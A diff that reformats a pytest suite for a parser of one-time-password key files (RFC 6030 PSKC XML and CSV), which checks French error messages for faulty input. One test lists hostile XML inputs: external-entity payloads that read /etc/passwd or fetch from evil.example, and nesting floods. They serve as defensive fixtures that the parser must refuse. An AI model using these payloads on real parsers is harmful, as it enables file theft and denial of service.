@@ -29,21 +29,24 @@ def test_the_encrypted_examples_of_rfc_6030_open(content, secret):
     assert key.seed == RFC_SEED
 
 
-@pytest.mark.parametrize(("content", "secret", "sentence"), [
-    (FIGURE_6, "", "Ce fichier est chiffré"),
-    (FIGURE_6, "00" * 16, "n’ouvre pas|ne correspond pas"),
-    (FIGURE_6, "court", "hexadécimal"),
-    (FIGURE_7, "azerty", "n’ouvre pas|ne correspond pas"),
-    (FIGURE_6.replace(b"Su+N", b"Sv+N"), AGREED, "Ligne 7 : la signature de contrôle"),
-    (FIGURE_6.replace(b"AAECAwQF", b"AAECAwQG"), AGREED, "Ligne 7 : la signature de contrôle"),
-    (FIGURE_6.replace(b"<ValueMAC>Su+NvtQfmvfJzF6bmQiJqoLRExc=</ValueMAC>", b""), AGREED, "sans signature"),
-    (FIGURE_6.replace(b"#hmac-sha1", b"#hmac-md5"), AGREED, "MACMethod"),
-    (FIGURE_6.replace(b"aes128-cbc", b"tripledes-cbc"), AGREED, "n’ouvre pas"),
-    (FIGURE_7.replace(b">1000<", b">999999999<"), PASSWORD, "PBKDF2"),
-    (FIGURE_7.replace(b">1000<", b">0<"), PASSWORD, "PBKDF2"),
-    (FIGURE_7.replace(b">16<", b">1<"), PASSWORD, "16, 24 ou 32"),
-    (FIGURE_7.replace(b"<PRF/>", b'<PRF Algorithm="x#hmac-md5"/>'), PASSWORD, "fonction de PBKDF2"),
-])
+@pytest.mark.parametrize(
+    ("content", "secret", "sentence"),
+    [
+        (FIGURE_6, "", "Ce fichier est chiffré"),
+        (FIGURE_6, "00" * 16, "n’ouvre pas|ne correspond pas"),
+        (FIGURE_6, "court", "hexadécimal"),
+        (FIGURE_7, "azerty", "n’ouvre pas|ne correspond pas"),
+        (FIGURE_6.replace(b"Su+N", b"Sv+N"), AGREED, "Ligne 7 : la signature de contrôle"),
+        (FIGURE_6.replace(b"AAECAwQF", b"AAECAwQG"), AGREED, "Ligne 7 : la signature de contrôle"),
+        (FIGURE_6.replace(b"<ValueMAC>Su+NvtQfmvfJzF6bmQiJqoLRExc=</ValueMAC>", b""), AGREED, "sans signature"),
+        (FIGURE_6.replace(b"#hmac-sha1", b"#hmac-md5"), AGREED, "MACMethod"),
+        (FIGURE_6.replace(b"aes128-cbc", b"tripledes-cbc"), AGREED, "n’ouvre pas"),
+        (FIGURE_7.replace(b">1000<", b">999999999<"), PASSWORD, "PBKDF2"),
+        (FIGURE_7.replace(b">1000<", b">0<"), PASSWORD, "PBKDF2"),
+        (FIGURE_7.replace(b">16<", b">1<"), PASSWORD, "16, 24 ou 32"),
+        (FIGURE_7.replace(b"<PRF/>", b'<PRF Algorithm="x#hmac-md5"/>'), PASSWORD, "fonction de PBKDF2"),
+    ],
+)
 def test_what_does_not_open_is_told(content, secret, sentence):
     told = faults(content, secret)
     assert len(told) == 1 and re.search(sentence, told[0]), told
@@ -51,41 +54,55 @@ def test_what_does_not_open_is_told(content, secret, sentence):
 
 def test_plain_pskc_is_read_with_its_parameters():
     more = "<Counter><PlainValue>7</PlainValue></Counter>"
-    hotp, totp = read(container(
-        package("A-1", more=more),
-        package("A-2", "QUJDREVGR0hJSg==", "totp", "<TimeInterval><PlainValue>30</PlainValue></TimeInterval>"),
-    ))
+    hotp, totp = read(
+        container(
+            package("A-1", more=more),
+            package("A-2", "QUJDREVGR0hJSg==", "totp", "<TimeInterval><PlainValue>30</PlainValue></TimeInterval>"),
+        )
+    )
     assert (hotp.serial, hotp.kind, hotp.algorithm, hotp.counter) == ("A-1", "hotp", "sha256", 7)
     assert (totp.kind, totp.seed, totp.counter) == ("totp", b"ABCDEFGHIJ", 0)
 
 
 def test_each_fault_of_a_pskc_has_its_line():
-    told = faults(container(
-        package("A-1"),
-        package("A-2", "dHJvcA=="),
-        package("A-3", "pas du base64 !"),
-        package("A-4", "QUJDREVGR0hJSktM", "totp", "<TimeInterval><PlainValue>60</PlainValue></TimeInterval>"),
-        package("A-5", "QUJDREVGR0hJSktN", "ocra"),
-        package("A-1", "QUJDREVGR0hJSktO"),
-        package("A-7"),
-    ))
+    told = faults(
+        container(
+            package("A-1"),
+            package("A-2", "dHJvcA=="),
+            package("A-3", "pas du base64 !"),
+            package("A-4", "QUJDREVGR0hJSktM", "totp", "<TimeInterval><PlainValue>60</PlainValue></TimeInterval>"),
+            package("A-5", "QUJDREVGR0hJSktN", "ocra"),
+            package("A-1", "QUJDREVGR0hJSktO"),
+            package("A-7"),
+        )
+    )
     assert [re.match(r"Ligne (\d+) : (.{12})", fault).groups() for fault in told] == [
-        ("7", "le secret co"), ("11", "une valeur n"), ("15", "cette clé ne"), ("19", "cette clé n’"),
-        ("23", "la clé n° A-"), ("27", "ce secret es"),
+        ("7", "le secret co"),
+        ("11", "une valeur n"),
+        ("15", "cette clé ne"),
+        ("19", "cette clé n’"),
+        ("23", "la clé n° A-"),
+        ("27", "ce secret es"),
     ]
 
 
-@pytest.mark.parametrize("content", [
-    b'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY a "aaaa">]><KeyContainer>&a;</KeyContainer>',
-    b'<!DOCTYPE k SYSTEM "http://evil.example/x.dtd"><KeyContainer/>',
-    b'<!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]><KeyContainer>&x;</KeyContainer>',
-    b'<!DOCTYPE k [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><KeyContainer/>',
-    b"<KeyContainer>" + b"<a>" * 50_000,
-    b"<KeyContainer>" + b"<a/>" * 500_000,
-    b"<KeyContainer><Key></KeyContainer>",
-    b'<?xml version="1.0" encoding="utf-7"?><KeyContainer/>',
-    b"<\x00\x00", b"<", b"<KeyContainer/>", b"<html/>",
-])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY a "aaaa">]><KeyContainer>&a;</KeyContainer>',
+        b'<!DOCTYPE k SYSTEM "http://evil.example/x.dtd"><KeyContainer/>',
+        b'<!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]><KeyContainer>&x;</KeyContainer>',
+        b'<!DOCTYPE k [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><KeyContainer/>',
+        b"<KeyContainer>" + b"<a>" * 50_000,
+        b"<KeyContainer>" + b"<a/>" * 500_000,
+        b"<KeyContainer><Key></KeyContainer>",
+        b'<?xml version="1.0" encoding="utf-7"?><KeyContainer/>',
+        b"<\x00\x00",
+        b"<",
+        b"<KeyContainer/>",
+        b"<html/>",
+    ],
+)
 def test_hostile_or_broken_xml_is_refused_with_a_sentence(content):
     assert len(faults(content)) == 1
 
@@ -103,10 +120,15 @@ def _sealed(value):
     )
 
 
-@pytest.mark.parametrize(("counter", "fault"), [
-    (b"\x00\x00\x00\x05", ""), (b"\xff" * 8, "le compteur est un nombre entier."),
-    (b"\xff" * 9, "un nombre chiffré est trop grand."), (b"\xff" * 3000, "un nombre chiffré est trop grand."),
-])
+@pytest.mark.parametrize(
+    ("counter", "fault"),
+    [
+        (b"\x00\x00\x00\x05", ""),
+        (b"\xff" * 8, "le compteur est un nombre entier."),
+        (b"\xff" * 9, "un nombre chiffré est trop grand."),
+        (b"\xff" * 3000, "un nombre chiffré est trop grand."),
+    ],
+)
 def test_an_encrypted_counter_however_long_is_a_number_or_a_fault(counter, fault):
     packed = package("A-1", more=f"<Counter>{_sealed(counter)}</Counter>").replace(
         "<PlainValue>MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=</PlainValue>", _sealed(RFC_SEED)
@@ -120,11 +142,17 @@ def test_an_encrypted_counter_however_long_is_a_number_or_a_fault(counter, fault
 
 
 def test_csv_is_read_in_the_forms_that_suppliers_give():
-    keys = read(csv(
-        f"A-1;{hexed(1)};HOTP;6;SHA-1;12", "A-2;gezd gnbv gy3t qojq;totp;8;sha256;", f"A-3;{hexed(3, 64)};;;SHA512;0",
-    ))
+    keys = read(
+        csv(
+            f"A-1;{hexed(1)};HOTP;6;SHA-1;12",
+            "A-2;gezd gnbv gy3t qojq;totp;8;sha256;",
+            f"A-3;{hexed(3, 64)};;;SHA512;0",
+        )
+    )
     assert [(key.serial, key.kind, key.digits, key.algorithm, key.counter) for key in keys] == [
-        ("A-1", "hotp", 6, "sha1", 12), ("A-2", "totp", 8, "sha256", 0), ("A-3", "totp", 6, "sha512", 0),
+        ("A-1", "hotp", 6, "sha1", 12),
+        ("A-2", "totp", 8, "sha256", 0),
+        ("A-3", "totp", 6, "sha512", 0),
     ]
     assert keys[1].seed == b"1234567890"
     for delimiter in (",", "\t"):
@@ -134,16 +162,37 @@ def test_csv_is_read_in_the_forms_that_suppliers_give():
 
 
 def test_each_fault_of_a_csv_has_its_line():
-    told = faults(csv(
-        f"A-1;{hexed(1)}", ";;", "", f"A-2;{hexed(2)};ocra;7;md5;x", "A-3;zz!", "A-4;00ff", f"A-1;{hexed(5)}",
-        f"A-6;{hexed(1)}", f"{'A' * 41};{hexed(7)}", f"A-8;{hexed(8)};hotp;6;sha1;-1",
-    ))
+    told = faults(
+        csv(
+            f"A-1;{hexed(1)}",
+            ";;",
+            "",
+            f"A-2;{hexed(2)};ocra;7;md5;x",
+            "A-3;zz!",
+            "A-4;00ff",
+            f"A-1;{hexed(5)}",
+            f"A-6;{hexed(1)}",
+            f"{'A' * 41};{hexed(7)}",
+            f"A-8;{hexed(8)};hotp;6;sha1;-1",
+        )
+    )
     numbers = [int(re.match(r"Ligne (\d+)", fault)[1]) for fault in told]
     assert numbers == [5, 5, 5, 5, 6, 7, 8, 9, 10, 11]
 
 
-@pytest.mark.parametrize("content", [b"", b"  \n", b"A-1;3132\n", b"serial\nA-1\n", b"numero;secret\n", b"\xff\xfe",
-                                     b"x" * (MAX_BYTES + 1), b'serial;secret\n"A-1;31'])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"",
+        b"  \n",
+        b"A-1;3132\n",
+        b"serial\nA-1\n",
+        b"numero;secret\n",
+        b"\xff\xfe",
+        b"x" * (MAX_BYTES + 1),
+        b'serial;secret\n"A-1;31',
+    ],
+)
 def test_what_is_no_list_of_keys_is_refused(content):
     assert faults(content)
 
